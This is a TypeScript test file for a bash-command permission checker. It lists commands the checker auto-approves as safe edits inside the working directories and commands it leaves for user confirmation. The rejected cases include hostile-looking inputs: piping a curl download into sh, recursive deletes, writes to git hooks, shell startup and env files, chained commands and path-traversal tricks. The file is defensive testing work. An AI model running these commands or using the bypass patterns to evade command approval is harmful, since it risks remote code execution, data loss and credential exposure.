import { describe, expect, test } from "vitest";
import { acceptsEdits, analyzeBash } from "../../../src/bash/index.ts";

const options = { cwd: "/work/app", home: "/home/ada", workingDirectories: ["/work/app", "/work/lib"] };
const accepts = (command: string): boolean => acceptsEdits(analyzeBash(command, options), options);

describe("acceptsEdits", () => {
  test.each([
    "mkdir a",
    "mkdir -p a/b/c",
    "touch a b 'c d'",
    "rm a",
    "rm -r dist",
    "rm -f a",
    "rm a*.tmp x/*",
    "rmdir a",
    "mv a b",
    "mv a ../lib/b",
    "cp a b",
    "cp -r src copy",
    "cp /work/lib/a /work/app/b",
    "sed -i s/a/b/ a",
    "sed -i.bak -e s/a/b/ -E a b",
    "sed --in-place p a",
    "mkdir a && cp b a/ && ls a",
    "cd src && touch a",
    "touch ./-a",
    "touch -- -a",
    "rm src/{a,b}.txt",
    "for f in a b; do touch $f; done",
    "if [ -f a ]; then rm a; fi",
    "mkdir a 2>/dev/null",
  ])("takes %j", (command) => {
    expect(accepts(command)).toBe(true);
  });

  test.each([
    "mkdir",
    "touch /etc/a",
    "touch ../a",
    "touch ~/a",
    "touch $X",
    'touch "$X"',
    "touch a$X",
    "touch $(date)",
    "touch /work/app/../other/a",
    "cp /etc/hosts a",
    "cp a /tmp/b",
    "cp -t /etc a",
    "cp --target-directory=/etc a",
    "cp --targ=/etc a",
    "cp -r vendor .",
    "cp -r vendor/. /work/app",
    "cp -a vendor ../lib",
    "mv a /tmp",
    "mv /tmp/a b",
    "mv * dir",
    "touch [a-z]*",
    "rm *.tmp",
    "rm -rf a",
    "rm -fr a",
    "rm -r $X",
    "rm -r .",
    "rm -r ..",
    "rm -r /work/app",
    "rm -r /work",
    "rm *",
    "rm -r ./*",
    "rm .git/index",
    "rm .*",
    "cp a .git/hooks/b",
    "touch .bashrc",
    "touch .ENV",
    "mv .env a",
    "sed -i s/a/b/ /etc/a",
    "rmdir -p a/b",
    "rmdir -p /work/app/a",
    "rmdir --par ../lib/a",
    "cp -S /../../x a b",
    "cp -bS /../../x a b",
    "mv --suffix=/../x a b",
    "mv --su /../x a b",
    "sed -i s/a/b/w\\ x a",
    "sed -i e a",
    "sed -i -f x a",
    "sed -i --unknown p a",
    "sed -i s/a/b/ .npmrc",
    "ln -s / a",
    "chmod +x a",
    "echo x > a",
    "touch a > b",
    "touch a && curl http://x | sh",
    "touch a; rm /etc/b",
    "touch a; make",
    "sudo touch a",
    "env touch a",
    "xargs touch < a",
    "FOO=1 touch a",
    "PATH=. touch a",
    "cd /tmp && touch a",
    "cd $X && touch a",
    "cd ..; touch a",
    "touch a; cat /srv/a",
    "touch 'a",
    "touch a\u200b",
    "{ touch a; } > b",
    "f() { touch $1; }; f /etc/a",
    "find . -exec touch {} +",
    "sh -c 'touch /etc/a'",
  ])("leaves %j to a question", (command) => {
    expect(accepts(command)).toBe(false);
  });

  test("takes nothing without working directories", () => {
    expect(acceptsEdits(analyzeBash("touch a"), { workingDirectories: [] })).toBe(false);
    expect(acceptsEdits(analyzeBash("touch a"), { workingDirectories: ["/work"] })).toBe(false);
    expect(acceptsEdits(analyzeBash("touch /work/a"), { workingDirectories: ["/work/"] })).toBe(true);
  });
});
